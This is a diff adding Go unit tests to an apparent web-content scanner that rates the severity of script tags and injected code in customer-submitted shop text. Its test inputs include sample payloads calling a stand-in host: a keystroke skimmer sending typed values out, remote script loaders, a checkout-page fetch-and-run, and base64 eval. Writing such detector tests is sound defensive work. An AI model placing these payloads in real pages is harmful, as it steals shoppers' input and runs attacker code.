@@ -1,10 +1,12 @@
 package database
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
 	"github.com/tillwatch/tillwatch"
+	"github.com/tillwatch/tillwatch/script"
 )
 
 // hits are what a customer can write to be run where the shop shows it. The samples are of our own, after descriptions.
@@ -215,6 +217,40 @@ func TestWhatMustBeDecodedIsLessCertain(t *testing.T) {
 		found, _ := activeContent(c.text)
 		if found.certainty != c.want || len(found.undone) != c.how {
 			t.Errorf("%s: %s after %v", c.text, found.certainty, found.undone)
+		}
+	}
+}
+
+func TestATagThatRunsNothingIsLow(t *testing.T) {
+	t.Parallel()
+	for text, want := range map[string]tillwatch.Severity{
+		"勉強会 <script 班> の記念品です。よろしく":      tillwatch.Low,
+		"<script 班>の「名入れ」":                tillwatch.Low,
+		"<script 班>の記念品":                  tillwatch.High, // a name, to a browser
+		"<script 班>fetch('//x.example')。": tillwatch.Critical,
+		"<script 班>/*。":                   tillwatch.High, // what follows may close the comment
+		"<script 班 src=//x.example/a>の、":  tillwatch.Critical,
+	} {
+		if found, _ := activeContent(text); found.severity != want {
+			t.Errorf("%s: %+v, want %s", text, found, want)
+		}
+	}
+}
+
+func TestWhatRowsDoInPages(t *testing.T) {
+	t.Parallel()
+	for text, executes := range map[string]bool{
+		"<p>10:00-18:00 <span id=o></span></p><script>if (new Date().getDay() === 0) document.getElementById('o').textContent = 'closed'; new Image().src = 'https://pixel.example/v.gif?p=' + encodeURIComponent(location.pathname);</script>": false,
+		"<script src=https://x.example/a.js></script>": true,
+		"<script>var s = document.createElement('script'); s.src = 'https://x.example/a.js'; document.head.append(s);</script>":            true,
+		"<script>document.addEventListener('input', function (e) { new Image().src = 'https://x.example/?' + e.target.value; });</script>": true,
+		"<script>eval(atob('YWxlcnQoMSk='))</script>":                                                                                           true,
+		"<script>document.title = 'x'</script><img src=x onerror=\"f()\">":                                                                      true,
+		"<script>if (location.href.indexOf('checkout') > 0) fetch('https://x.example/').then(r => r.text()).then(t => Function(t)());</script>": true,
+	} {
+		e := judgeExecutable(modeMarkup, "html", text, script.Options{})
+		if got := slices.Contains(e.capabilities, tillwatch.Executes); got != executes || !e.active {
+			t.Errorf("%s: executes %v, want %v (%v)", text, got, executes, e.capabilities)
 		}
 	}
 }
